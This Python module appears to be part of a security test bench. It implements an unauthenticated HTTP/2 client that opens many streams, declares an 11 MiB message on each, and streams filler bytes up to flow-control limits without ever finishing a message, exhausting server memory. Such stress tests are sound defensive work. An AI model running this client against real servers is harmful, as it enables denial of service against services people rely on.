"""A device without a token that begins large messages and ends none (SECURITY.md: memory)."""

from __future__ import annotations

import select
import struct
import threading
from collections import defaultdict
from contextlib import suppress
from pathlib import Path

from bench.attack.http2 import (
    CHECK_PERSON,
    DATA,
    END_HEADERS,
    HEADERS,
    INITIAL_WINDOW,
    LONGEST,
    PREFACE,
    SETTINGS,
    WINDOW_UPDATE,
    connect,
    frame,
    headers,
    received,
)

MESSAGE = 11 << 20  # bytes that each is said to have
_WAIT_S, _PATIENCE = 0.05, 10
_FIRST_WINDOW = 65_535  # bytes, before the other end says otherwise


class HalfMessages:
    """Messages begun on many streams of one connection, as flow control lets it. sent: bytes so far."""

    def __init__(self, address: str, certificate: Path, streams: int) -> None:
        """certificate: PEM, with its key. Raises OSError."""
        self._connection = connect(address, certificate)
        self._streams = range(1, 2 * streams, 2)
        self._windows: dict[int, int] = defaultdict(int)  # 0 = of the connection; of a stream, beyond the initial one
        self._windows[0] = _FIRST_WINDOW
        self._initial = _FIRST_WINDOW
        self._unread = b""
        self.sent = 0

    def send(self, most: int, until: threading.Event | None = None) -> None:
        """Sends until so much is sent, `until` is set, or the server takes no more, or ends the connection."""
        begun = headers(CHECK_PERSON)
        with suppress(OSError), self._connection:
            self._connection.sendall(PREFACE)
            for stream in self._streams:
                head = frame(DATA, 0, stream, struct.pack(">BI", 0, MESSAGE))
                self._connection.sendall(frame(HEADERS, END_HEADERS, stream, begun) + head)
                self._take(stream, 5)
            waited = 0
            while self.sent < most and waited < _PATIENCE and not (until and until.is_set()):
                waited = 0 if sum(self._push(stream) for stream in self._streams) else waited + 1
                if waited:
                    select.select([self._connection], [], [], _WAIT_S)
                self._hear()

    def _take(self, stream: int, size: int) -> None:
        self._windows[0] -= size
        self._windows[stream] -= size

    def _push(self, stream: int) -> bool:
        size = min(LONGEST, self._windows[0], self._initial + self._windows[stream])
        if size <= 0:
            return False
        self._connection.sendall(frame(DATA, 0, stream, bytes(size)))
        self._take(stream, size)
        self.sent += size
        return True

    def _hear(self) -> None:
        data = self._unread + received(self._connection)
        while len(data) >= 9 and len(data) >= 9 + (length := int.from_bytes(data[:3])):
            self._heard(data[3], int.from_bytes(data[5:9]), data[9 : 9 + length])
            data = data[9 + length :]
        self._unread = data

    def _heard(self, kind: int, stream: int, payload: bytes) -> None:
        if kind == WINDOW_UPDATE:
            self._windows[stream] += int.from_bytes(payload)
        elif kind == SETTINGS:
            for at in range(0, len(payload), 6):
                number, value = struct.unpack_from(">HI", payload, at)
                if number == INITIAL_WINDOW:
                    self._initial = value
